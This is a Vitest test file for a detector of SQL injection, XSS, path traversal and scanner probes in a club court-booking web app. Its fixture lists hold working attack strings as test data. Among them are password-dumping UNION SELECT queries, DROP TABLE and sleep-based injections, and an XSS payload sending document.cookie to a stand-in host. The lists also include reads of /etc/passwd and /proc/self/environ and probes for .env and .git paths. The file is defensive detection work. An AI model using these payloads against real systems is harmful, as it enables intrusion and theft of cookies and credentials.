import { describe, expect, it } from "vitest";
import {
  clubSlugOfPath,
  decodeRepeatedly,
  findProbe,
  findProbeInFields,
  findProbeInJson,
  findProbeInUrl,
  findScannerPath,
  MAX_SCANNED_VALUES,
} from "./probe-signatures";

const probes: Array<[string, "sqli" | "xss" | "traversal"]> = [
  ["' OR 1=1--", "sqli"],
  ["' or 1=1", "sqli"],
  ['" or ""="', "sqli"],
  ["' or 'a'='a", "sqli"],
  ["admin'or'1'='1", "sqli"],
  ["1' and '1'='1", "sqli"],
  ["x UNION SELECT password FROM app_user", "sqli"],
  ["1 union all select null,null--", "sqli"],
  ["1'/**/UnIoN/**/SeLeCt/**/1", "sqli"],
  ["1; DROP TABLE booking", "sqli"],
  ["1);  drop\ttable club;--", "sqli"],
  ["'; select pg_sleep(5)", "sqli"],
  ["1 AND pg_sleep(10)", "sqli"],
  ["1 or sleep(5)#", "sqli"],
  ["benchmark(1000000,md5(1))", "sqli"],
  ["select * from information_schema.tables", "sqli"],
  ["pg_catalog.pg_tables", "sqli"],
  ["admin' --", "sqli"],
  ["admin'; --", "sqli"],
  ["admin'--", "sqli"],
  ["1 or 1=1--", "sqli"],
  ["'; waitfor delay '0:0:5'--", "sqli"],
  ["x'::text||(select version())", "sqli"],
  ["%27%20OR%201%3D1--", "sqli"],
  ["%2527%2520union%2520select%25201", "sqli"],
  ["<script>alert(1)</script>", "xss"],
  ["<ScRiPt src=//evil.example/x.js>", "xss"],
  ["javascript:alert(document.domain)", "xss"],
  ['"><img src=x onerror=alert(1)>', "xss"],
  ["<svg/onload=fetch('//x')>", "xss"],
  ["<body onload = steal()>", "xss"],
  ["<iframe src=//evil.example>", "xss"],
  ["fetch('//x?c='+document.cookie)", "xss"],
  ["alert('xss')", "xss"],
  ["%3Cscript%3E", "xss"],
  ["%253Csvg%2520onload%253Dx%253E", "xss"],
  ["../../etc/passwd", "traversal"],
  ["..\\..\\boot.ini", "traversal"],
  ["/etc/passwd", "traversal"],
  ["..%2f..%2fetc%2fpasswd", "traversal"],
  ["%252e%252e%252f", "traversal"],
  ["photo.png%00.php", "traversal"],
  ["a\u0000b", "traversal"],
  ["C:\\Windows\\System32", "traversal"],
  ["file:///etc/hosts", "traversal"],
  ["/proc/self/environ", "traversal"],
];

const harmless = [
  "O'Brien",
  "d'Artagnan",
  "Jean-Luc",
  "rock & roll",
  "2026-12-04",
  "alice.smith+courts@example.org",
  "Court 1 -- indoor",
  "L'été dernier, j'ai joué avec l'équipe d'Anne ; c'est l'heure qu'on préfère.",
  "Qu'en pensez-vous ? Aujourd'hui c'est l'open d'hiver.",
  "<3",
  "I <3 padel and 2 > 1",
  "it's 5 o'clock, don't be late",
  "Select your court",
  "the union of two clubs",
  "Drop-in session; table tennis",
  "Need sleep (8 h) before the match",
  "Please confirm (2 courts)",
  "Weather alert (rain) for Court 2",
  "JavaScript: the good parts",
  "Bon... / pas sûr",
  "50% off, 100%zz, %E9t%E9",
  "Court 3 or 4",
  "O'Neil or O'Hara",
  "Rock 'n' roll -- live",
  "1=1 is true",
  "scores: 6-4, 3-6, 7-5",
  "",
];

describe("findProbe", () => {
  it.each(probes)("%j is a %s probe", (value, kind) => {
    expect(findProbe(value)?.kind).toBe(kind);
  });

  it.each(harmless.map((v) => [v]))("%j is harmless", (value) => {
    expect(findProbe(value)).toBeNull();
  });

  it("names the signature that matched", () => {
    expect(findProbe("1 UNION/**/ALL SELECT 1")).toEqual({
      kind: "sqli",
      signature: "union select",
    });
    expect(findProbe("<script>")).toEqual({ kind: "xss", signature: "<script" });
    expect(findProbe("../x")).toEqual({ kind: "traversal", signature: "../" });
  });
});

describe("decodeRepeatedly", () => {
  it("decodes at most three times and keeps malformed escapes", () => {
    expect(decodeRepeatedly("%252527")).toBe("'");
    expect(decodeRepeatedly("%25252527")).toBe("%27");
    expect(decodeRepeatedly("%zz%27%")).toBe("%zz'%");
    // Not UTF-8: each byte kept as a Latin-1 character, the rest still decoded.
    expect(decodeRepeatedly("%c0%ae%c0%ae%2f")).toBe("\u00c0\u00ae\u00c0\u00ae/");
  });
});

describe("findScannerPath", () => {
  it.each([
    "/wp-admin/",
    "/blog/wp-login.php",
    "/.env",
    "/.env.local",
    "/.git/config",
    "/phpMyAdmin/index.php",
    "/xmlrpc.php",
    "/cgi-bin/test.cgi",
    "/actuator/health",
    "/server-status",
    "/index.php",
    "/%2e%65nv",
  ])("%s is a scanner path", (path) => {
    expect(findScannerPath(path)?.kind).toBe("scanner");
  });

  it.each([
    "/",
    "/c/demo/planning",
    "/c/actuator",
    "/c/server-status/planning",
    "/api/health",
    "/_next/static/chunks/app.js",
    "/.well-known/security.txt",
    "/c/demo/admin/members/envelope",
    "/c/php-club",
  ])("%s is not", (path) => {
    expect(findScannerPath(path)).toBeNull();
  });
});

describe("findProbeInUrl", () => {
  const params = (q: string) => new URL(`http://x/${q}`).searchParams;

  it("finds a probe in the path, then in the query, naming the parameter", () => {
    expect(findProbeInUrl("/wp-login.php", params("?q=%27 or 1=1--"))).toMatchObject({
      kind: "scanner",
      signature: "/wp-login.php",
      where: "path",
      field: null,
    });
    expect(findProbeInUrl("/c/demo/..%2f..%2fetc", params(""))).toMatchObject({
      kind: "traversal",
      where: "path",
      value: "/c/demo/..%2f..%2fetc",
    });
    expect(findProbeInUrl("/c/demo/admin/members", params("?page=2&q=' OR 1=1--"))).toEqual({
      kind: "sqli",
      signature: "' or 1=1",
      where: "query",
      field: "q",
      value: "' OR 1=1--",
    });
    expect(
      findProbeInUrl("/c/demo", params("?date=%3Cscript%3Ealert(1)%3C/script%3E")),
    ).toMatchObject({ kind: "xss", where: "query", field: "date" });
    expect(findProbeInUrl("/c/demo", params("?%3Cscript%3E=1"))).toMatchObject({
      kind: "xss",
      field: "<script>",
    });
  });

  it("finds nothing in ordinary addresses and never scans secret parameters", () => {
    expect(findProbeInUrl("/c/demo/admin/members", params("?q=O'Brien&page=2"))).toBeNull();
    expect(findProbeInUrl("/c/demo/planning", params("?date=2026-12-04"))).toBeNull();
    expect(findProbeInUrl("/_next/static/chunks/main-abc123.js", params(""))).toBeNull();
    expect(findProbeInUrl("/reset-password", params("?token=' or 1=1--&code=<script>"))).toBeNull();
  });
});

describe("findProbeInFields", () => {
  it("returns the first probe, skipping secret fields, Next.js fields and files", () => {
    const form = new FormData();
    form.set("$ACTION_ID_abc", "<script>");
    form.set("password", "' union select password from app_user--");
    form.set("newPassword", "<script>");
    form.set("totpCode", "' or 1=1");
    form.set("file", new Blob(["<script>"]), "x.txt");
    form.set("name", "O'Brien");
    form.set("note", "' union select password from app_user--");
    form.set("later", "<script>");
    expect(findProbeInFields(form.entries())).toEqual({
      kind: "sqli",
      signature: "union select",
      field: "note",
      value: "' union select password from app_user--",
    });
  });

  it("scans at most MAX_SCANNED_VALUES fields", () => {
    const entries: Array<[string, string]> = Array.from({ length: MAX_SCANNED_VALUES }, (_, i) => [
      `f${i}`,
      "ok",
    ]);
    entries.push(["last", "<script>"]);
    expect(findProbeInFields(entries)).toBeNull();
  });
});

describe("findProbeInJson", () => {
  it("walks nested objects and arrays and names the path", () => {
    expect(
      findProbeInJson({ court: 1, players: [{ name: "Ann" }, { name: "x' UNION SELECT 1--" }] }),
    ).toMatchObject({ kind: "sqli", field: "players.1.name" });
    expect(findProbeInJson("<script>")).toMatchObject({ kind: "xss", field: "input" });
  });

  it("skips secret paths and stops after MAX_SCANNED_VALUES strings", () => {
    expect(
      findProbeInJson({ password: "<script>", credentials: { secret: "<script>" } }),
    ).toBeNull();
    expect(findProbeInJson({ auth: { token: ["../../etc/passwd"] } })).toBeNull();
    const many = Array.from({ length: MAX_SCANNED_VALUES }, () => "ok");
    expect(findProbeInJson([...many, "<script>"])).toBeNull();
    expect(findProbeInJson([...many.slice(1), "<script>"])).toMatchObject({ kind: "xss" });
    expect(findProbeInJson({ name: "O'Brien", note: "Court 1 -- indoor", n: 3 })).toBeNull();
  });
});

describe("clubSlugOfPath", () => {
  it("reads the slug of a club page or API path", () => {
    expect(clubSlugOfPath("/c/demo/admin/members")).toBe("demo");
    expect(clubSlugOfPath("/c/demo")).toBe("demo");
    expect(clubSlugOfPath("/api/c/club-1/bookings")).toBe("club-1");
    expect(clubSlugOfPath("/c/%27or/x")).toBeNull();
    expect(clubSlugOfPath("/account")).toBeNull();
  });
});
